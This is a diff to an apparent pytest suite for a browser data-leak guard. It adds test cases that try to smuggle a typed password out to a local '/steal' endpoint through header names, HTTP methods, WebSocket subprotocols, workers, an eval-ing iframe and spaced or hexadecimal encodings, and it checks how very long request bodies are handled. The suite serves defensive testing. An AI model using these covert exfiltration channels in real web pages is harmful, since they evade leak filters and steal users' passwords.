@@ -50,6 +50,12 @@ CHANNELS = {
     "new Blob([`onmessage=e=>fetch(e.data)`]))).postMessage(e.data)']))).postMessage(away+'?'+btoa(v))",
     "a service worker": "navigator.serviceWorker.register('/sw.js').then(()=>navigator.serviceWorker.ready)"
     ".then(r=>r.active.postMessage(away+'?'+encodeURIComponent(v)))",
+    "the name of a header": "within(`fetch('/steal',{headers:{'x-${hex(v)}':'1'}})`)",
+    "a method": "within(`fetch('/steal',{method:'X${hex(v)}'})`)",
+    "a socket's protocol": "new WebSocket(away.replace('http','ws'),['p'+hex(v)])",
+    "a socket's protocol, of a worker": "new Worker(URL.createObjectURL(new Blob(["
+    "'onmessage=e=>new WebSocket(...e.data)']))).postMessage([away.replace('http','ws'),'p'+hex(v)])",
+    "base64 with blanks": "new Image().src=away+'?'+btoa(v).replace(/(.{4})/g,'$1%20')",
     "a socket's address": "new WebSocket(away.replace('http','ws')+'?'+encodeURIComponent(v))",
 }
 
@@ -57,10 +63,14 @@ CHANNELS = {
 @pytest.mark.parametrize("channel", CHANNELS)
 async def test_a_secret_leaves_through_nothing(driver: Driver, channel: str) -> None:
     driver.site.pages["/sw.js"] = "onmessage=e=>fetch(e.data,{mode:'no-cors'})"
+    driver.site.page("<script>onmessage=e=>eval(e.data)</script>", "/inner")
     away = driver.site.url("/steal", "localhost")
     look = await driver.open(
         f"<input id=f type=password aria-label=Code><form action='{away}' method=post><input type=hidden name=s id=s>"
         f"</form><div id=o></div><script>const away='{away}';"
+        "const within=js=>{o.innerHTML='<iframe></iframe>';const f=o.firstChild;"
+        "f.onload=()=>f.contentWindow.postMessage(js,'*');f.src=away.replace('steal','inner')};"
+        "const hex=v=>Array.from(v,c=>c.charCodeAt(0).toString(16)).join('');"
         f"f.oninput=()=>{{const v=f.value;{CHANNELS[channel]}}}</script>",
         refuse=strays,
     )
@@ -129,6 +139,42 @@ async def test_what_went_through_a_socket_can_only_be_told(driver: Driver) -> No
     assert (told.code, SECRET in repr(told)) == ("refused", False)
 
 
+async def test_what_is_too_long_to_be_searched_is_for_the_readers_of_everything(driver: Driver) -> None:
+    away = driver.site.url("/long", "localhost")
+    await driver.open("<p>x", refuse=strays)
+    driver.site.asked.clear()
+    script = "fetch('{}',{{method:'POST',mode:'no-cors',body:'\\\\u0041'.repeat(500000)}}).then(()=>'left',()=>'held')"
+    assert await driver.js(script.format(away)) == "held"
+    assert await driver.js(script.format("/long")) == "left"
+    assert [asked[1].split(":")[0] for asked in driver.site.asked if asked[2] == "/long"] == ["127.0.0.1"]
+    asked = [request for request in driver.gate.asked if request.url.endswith("/long")]
+    assert [(request.body_sha256, request.carries[0].name) for request in asked] == [
+        ("unread", "perhaps the secret 'pw'")
+    ] * 2
+    assert SECRET not in repr(asked)
+
+
+async def test_what_is_short_does_not_wait_for_what_is_long(driver: Driver) -> None:
+    away = driver.site.url("/long", "localhost")
+    await driver.open("<p>x", refuse=strays)
+    long = "'%2541%252B'.repeat(100000)"
+    hidden = f"fetch('{away}',{{method:'POST',mode:'no-cors',body:{long}+'{SECRET.replace('/', '%2F')}'}})"
+    assert await driver.js(f"{hidden}.catch(()=>1);fetch('/short').then(()=>'came')") == "came"
+    await driver.until(lambda: [request for request in driver.gate.asked if request.carries])
+    order = [request.url.rpartition("/")[2] for request in driver.gate.asked]
+    assert order.index("short") < order.index("long")
+    assert [item.code for item in driver.device.incidents()] == ["refused"]
+
+
+def test_of_many_values_only_a_shorter_text_is_searched() -> None:
+    held = Confidential()
+    for number in range(200):
+        held.hidden(PLACE, f"value number {number}")
+    assert held.searchable("x" * 100_000)
+    assert not held.searchable("x" * 1_000_000)
+    assert {item.readers for item in held.suspected()} == {frozenset({PLACE})}
+
+
 WAYS: dict[str, Callable[[str], str]] = {
     "as it is": lambda value: value,
     "in the path": lambda value: quote(value, safe=""),
@@ -144,6 +190,11 @@ WAYS: dict[str, Callable[[str], str]] = {
     "base64 behind one": lambda value: base64.b64encode(b"x" + value.encode() + b"yz").decode(),
     "base64 behind two": lambda value: quote(base64.b64encode(b"xx" + value.encode() + b"z").decode()),
     "hexadecimal": lambda value: value.encode().hex().upper(),
+    "base64 with blanks": lambda value: "%20".join(base64.b64encode(b"x" + value.encode()).decode()),
+    "base64 in lines": lambda value: json.dumps("\r\n\t".join(base64.b64encode(value.encode()).decode())),
+    "hexadecimal with blanks": lambda value: value.encode().hex(" "),
+    "letters with nothing between": lambda value: quote("\0".join(value)),
+    "letters with blanks between": lambda value: quote_plus(" ".join(value)),
 }
 VALUES = st.text(st.characters(min_codepoint=33, max_codepoint=0x2FF, exclude_categories=["Cc", "Cs"]), min_size=8)
 
